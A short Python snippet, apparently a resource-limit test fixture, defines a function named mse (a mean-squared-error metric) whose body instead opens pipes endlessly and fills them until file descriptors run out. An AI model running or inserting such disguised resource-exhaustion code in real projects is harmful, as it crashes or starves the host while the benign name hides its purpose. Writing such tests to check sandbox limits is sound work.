# says: limit
# Opens pipes until there are no descriptors left, and fills them.
import os


def mse(y_true, y_pred):
    while True:
        _, end = os.pipe()
        os.set_blocking(end, False)
        os.write(end, bytes(60_000))
